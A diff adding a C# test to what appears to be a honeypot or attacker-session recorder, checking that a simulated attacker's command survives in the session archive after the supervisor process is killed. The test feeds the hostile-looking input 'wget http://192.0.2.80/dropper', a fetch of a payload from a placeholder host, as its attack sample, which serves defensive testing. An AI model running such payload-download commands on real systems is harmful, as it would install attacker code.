@@ -110,6 +110,24 @@ public sealed class SessionTests : IDisposable
     }
 
     [Fact]
+    public async Task A_process_that_is_killed_takes_nothing_with_it_that_was_recorded()
+    {
+        await ServesAsync();
+        Assert.Equal("", await AttackAsync("wget http://192.0.2.80/dropper", ""));
+        int process = Supervisor.ProcessId;
+        using (Process killed = Process.GetProcessById(process))
+        {
+            await UntilAsync(() => _appliance.Services.GetRequiredService<Blackwall.Sessions.SessionArchive>().List(null, DateTimeOffset.MaxValue, 5).Any(session => session.Commands == 1));
+            killed.Kill();
+        }
+
+        JsonNode session = await FirstEndedAsync();
+        JsonArray events = (await _api.GetFromJsonAsync<JsonNode>($"sessions/{(string)session["id"]!}/events", Cancellation))!["items"]!.AsArray();
+        Assert.Contains(events, happened => (string)happened!["kind"]! is "command" && (string)happened["text"]! is "wget http://192.0.2.80/dropper");
+        Assert.Equal("close", (string)events[^1]!["kind"]!);
+    }
+
+    [Fact]
     public async Task The_process_has_no_rights_and_ends_with_the_appliance()
     {
         await ServesAsync();
